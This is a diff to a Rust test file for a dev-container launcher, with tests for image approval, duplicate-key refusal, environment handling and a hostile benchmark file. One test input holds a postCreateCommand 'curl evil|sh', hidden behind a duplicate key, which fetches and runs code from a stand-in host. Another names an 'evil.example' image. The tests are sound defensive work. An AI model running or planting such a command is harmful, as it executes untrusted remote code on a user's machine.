@@ -228,7 +228,6 @@ fn limits_are_lowered_and_never_raised() {
         "--shm-size=268435456",
         "--ulimit=nofile=1024:16384",
         "--hostname=dev",
-        "--label=team=web",
         "--memory=1073741824",
         "--memory-swap=1073741824",
     ] {
@@ -275,9 +274,111 @@ fn volumes_are_the_workspaces_own_and_memory_is_capped() {
 #[test]
 fn launches_start_in_the_workspace_folder() {
     let request = approved(r#""workspaceFolder": "/workspaces/acme/web""#);
-    assert!(launch(&request, &[]).args.contains(&"--workdir=/workspace/acme/web".into()));
+    let started = launch(&request, &[]).args.clone();
+    let at = started.iter().position(|arg| arg == "/workspace/acme/web").unwrap();
+    assert!(started[at - 2].contains("cd") && started[at + 1] == "/usr/bin/env", "{started:?}");
+    assert!(
+        started.contains(&"--workdir=/workspace/acme".into()),
+        "an engine fails where a folder is missing"
+    );
     let elsewhere = launch(&request, &[("workdir", json!("/tmp"))]);
     assert!(elsewhere.args.contains(&"--workdir=/tmp".into()));
+}
+
+/// The review's cases: whose word an image is does not depend on who said "devcontainer".
+#[test]
+fn every_image_and_build_of_a_repository_is_asked_for_whatever_word_brought_it() {
+    let with_yaml = |text: &str, image: &str| {
+        let mut request = with_devcontainer("docker", text);
+        set(&mut request, "orcaYaml", crate::support::orca_yaml(&format!("    image: {image}\n")));
+        set(&mut request, "repoSettings.commandSourcePolicy", json!("run-both"));
+        request
+    };
+    // The file names none, orca.yaml does.
+    let request = with_yaml(r#"{"containerEnv": {"A": "1"}}"#, "evil.example/x:1");
+    let asked = planned(&request);
+    assert_eq!((asked.plan.image.said, asked.plan.digest.is_none()), (Said::Repository, true));
+    assert_eq!(asked.pending_approvals[0].subject["reference"], "evil.example/x:1");
+    // orca.yaml's is beyond the maximum, and a person's weaker word brings the file.
+    let mut request = with_yaml(r#"{"image": "ghcr.io/acme/other:1"}"#, "evil.example/x:1");
+    request["choices"].as_object_mut().unwrap().remove("image");
+    set(&mut request, "globalSettings.container.image", json!("devcontainer"));
+    set(&mut request, "globalSettings.maximum", json!({"images": ["ghcr.io/acme/"]}));
+    let asked = planned(&request);
+    assert_eq!((asked.plan.image.said, asked.plan.digest.is_none()), (Said::Repository, true));
+    // A build beyond the maximum is neither asked for nor planned, and gives its name to nothing.
+    let mut request = with_yaml(BUILD, "devcontainer");
+    request["choices"].as_object_mut().unwrap().remove("image");
+    set(&mut request, "globalSettings.container.image", json!("ghcr.io/acme/base:1"));
+    set(&mut request, "globalSettings.maximum", json!({"images": ["ghcr.io/acme/"]}));
+    let plan = planned(&approve_all(request));
+    assert_eq!((plan.plan.image.build, plan.plan.image.said), (None, Said::Person));
+    assert!(plan.pending_approvals.is_empty() && plan.plan.devcontainer.is_none());
+}
+
+#[test]
+fn a_name_that_stands_twice_is_refused_wherever_it_would_be_approved() {
+    for text in [
+        r#"{"image": "a:1", "postCreateCommand": {"a": "curl evil|sh", "a": "npm ci"}}"#,
+        r#"{"build": {"dockerfile": "A", "dockerfile": "B"}}"#,
+        r#"{"build": {"dockerfile": "A", "args": {"V": "1", "V": "2"}}}"#,
+        r#"{"image": "a:1", "containerEnv": {"A": "1", "A": "2"}}"#,
+        r#"{"image": "a:1", "mounts": [{"source": "aa", "source": "bb", "target": "/x"}]}"#,
+    ] {
+        match answer(&with_devcontainer("docker", text)) {
+            PlanAnswer::Refused(refusal) => {
+                assert_eq!(refusal.code, Code::DevcontainerDuplicateKey, "{text}")
+            }
+            PlanAnswer::Planned(_) => panic!("planned: {text}"),
+        }
+    }
+}
+
+#[test]
+fn taking_a_redirecting_variable_away_waits_and_path_stays() {
+    let mut request =
+        with_devcontainer("docker", r#"{"image": "a:1", "remoteEnv": {"HTTPS_PROXY": null, "PATH": null}}"#);
+    set(&mut request, "imageFacts.env", json!(["PATH=/bin", "HTTPS_PROXY=http://p"]));
+    let image_only = set_approvals_of(&request, "image");
+    let launched = |request: &Value| launch(request, &[]).args.clone();
+    assert!(!launched(&image_only).contains(&"HTTPS_PROXY".into()));
+    let all = launched(&approve_all(request));
+    assert!(all.contains(&"HTTPS_PROXY".into()) && !all.contains(&"PATH".into()));
+}
+
+/// Only what is asked of one kind is approved.
+fn set_approvals_of(request: &Value, kind: &str) -> Value {
+    let pending = planned(request).pending_approvals;
+    let of_kind = pending.iter().filter(|asked| asked.kind.as_str() == kind);
+    let mut request = request.clone();
+    let approvals: Vec<Value> = of_kind.map(|p| json!({"kind": p.kind, "digest": p.digest})).collect();
+    set(&mut request, "approvals", json!(approvals));
+    request
+}
+
+#[test]
+fn a_persons_start_variable_is_not_taken_away() {
+    let mut request = with_devcontainer("docker", r#"{"image": "a:1", "remoteEnv": {"FOO": null}}"#);
+    set(&mut request, "imageFacts.env", json!(["PATH=/bin", "FOO=img"]));
+    set(&mut request, "choices.env", json!({"FOO": "mine"}));
+    set(&mut request, "choices.startEnv", json!(["FOO"]));
+    assert!(!launch(&approve_all(request), &[]).args.contains(&"FOO".into()));
+}
+
+#[test]
+fn an_approval_stays_in_the_same_worktree() {
+    let file = r#"{"image": "a:1", "postCreateCommand": "echo ${devcontainerId}"}"#;
+    let request = approve_all(with_devcontainer("docker", file));
+    let mut again = request.clone();
+    set(&mut again, "workspace.instanceId", json!("instance-2"));
+    assert!(planned(&again).pending_approvals.is_empty());
+}
+
+#[test]
+fn where_no_value_goes_no_command_does() {
+    let mut request = with_devcontainer("docker", COMMANDS);
+    set(&mut request, "engine.endpoint", json!("plain"));
+    assert_eq!(stages(&approve_all(request)), [""; 0]);
 }
 
 const COMMANDS: &str = r#"{"image": "a:1", "postCreateCommand": {"one": "echo one; false", "two": ["echo", "two's"]}, "onCreateCommand": ["npm", "ci"],
@@ -378,6 +479,23 @@ fn a_build_is_asked_for_by_the_digest_of_its_dockerfile_and_its_block() {
         planned(&other).needs.iter().any(|need| matches!(need, Need::Approval { .. })),
         "another Dockerfile is another build"
     );
+}
+
+/// The very file that was given to the reference CLI.
+#[test]
+fn the_hostile_file_of_the_benchmark_gets_nothing_either() {
+    let path = concat!(
+        env!("CARGO_MANIFEST_DIR"),
+        "/../tests/golden/devcontainer/hostile-file-of-the-benchmark/devcontainer.json"
+    );
+    let text = std::fs::read_to_string(path).unwrap();
+    let request = approve_all(with_devcontainer("docker", &text));
+    let image = planned(&request).plan.image.reference;
+    let plain = approve_all(with_devcontainer("docker", &format!("{{\"image\": {image:?}}}")));
+    let words = |request: &Value| -> Vec<String> {
+        create_words(request).into_iter().filter(|word| !word.starts_with("--label=orca.plan")).collect()
+    };
+    assert_eq!(words(&request), words(&plain), "the same container, word for word");
 }
 
 /// The file that made the reference CLI run a command on the host, mount it and give all privileges.
